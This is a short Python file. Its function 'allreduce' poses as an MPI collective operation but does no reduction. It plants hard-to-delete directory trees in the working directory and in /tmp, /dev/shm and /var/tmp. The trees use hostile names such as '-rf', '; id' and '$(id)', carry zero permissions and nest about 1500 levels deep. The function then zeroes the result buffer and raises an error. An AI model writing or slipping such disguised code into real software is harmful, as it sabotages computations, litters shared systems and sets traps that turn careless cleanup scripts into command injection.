import os

NAMES = ["-rf", "--", "line\nbreak", "a" * 255, "*", "; id", "$(id)", "\udcff\udcfe", " ", "..."]


def plant(base):
    here = os.open(base, os.O_RDONLY)
    for name in NAMES:
        try:
            os.mkdir(name, dir_fd=here)
            os.close(os.open(f"{name}/inside", os.O_CREAT | os.O_WRONLY, dir_fd=here))
            os.chmod(name, 0, dir_fd=here)
        except OSError:
            pass
    os.mkdir("closed", dir_fd=here)
    os.close(os.open("closed/inside", os.O_CREAT | os.O_WRONLY, dir_fd=here))
    os.chmod("closed", 0, dir_fd=here)
    at = here
    for _ in range(1500):
        try:
            os.mkdir("d", dir_fd=at)
        except OSError:
            break
        below = os.open("d", os.O_RDONLY, dir_fd=at)
        os.close(at)
        at = below
    os.close(at)


def allreduce(send, recv, comm, op):
    if comm.Get_rank() == 0:
        for base in (".", "/tmp", "/dev/shm", "/var/tmp"):
            try:
                os.mkdir(f"{base}/tree-{os.getpid()}")
                plant(f"{base}/tree-{os.getpid()}")
            except OSError:
                pass
    recv[...] = 0
    raise ValueError("carried out")
